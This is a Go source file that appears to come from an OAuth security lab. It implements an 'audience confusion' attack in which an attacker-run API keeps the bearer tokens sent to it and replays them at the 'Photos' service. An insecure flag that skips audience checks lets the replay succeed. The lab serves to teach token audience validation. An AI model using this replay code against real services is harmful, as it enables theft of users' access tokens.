package web

// Attack 06, audience confusion: the attacker runs a resource server of its own, registered at
// Accounts with its own audience (AUTHSERVER_LAB_RESOURCE, asked for with RFC 8707's resource
// parameter). Apps legitimately send it Alice's tokens, meant for it. It replays each at Photos:
// Photos must refuse, since the aud is not Photos (RFC 9068 §4); with
// PHOTOS_INSECURE_SKIP_AUDIENCE=true it accepts.

import (
	"net/http"
	"strings"

	"github.com/labstack/echo/v4"
)

// handleAPI is the attacker's API. It answers politely, and keeps the token.
func handleAPI(a *attacker) echo.HandlerFunc {
	return func(c echo.Context) error {
		scheme, token, ok := strings.Cut(c.Request().Header.Get("Authorization"), " ")
		if !ok || !strings.EqualFold(scheme, "Bearer") || token == "" {
			c.Response().Header().Set("WWW-Authenticate", `Bearer realm="attacker"`)
			return c.JSON(http.StatusUnauthorized, map[string]string{"error": "invalid_request"})
		}
		result := a.tryAtPhotos(c.Request().Context(), token)
		a.keep(loot{Kind: "access_token", Value: token, How: "sent to the attacker's own API, which the token was meant for", Photos: result})
		return c.JSON(http.StatusOK, map[string]string{"hello": "thanks for the token", "replayed_at_photos": result})
	}
}
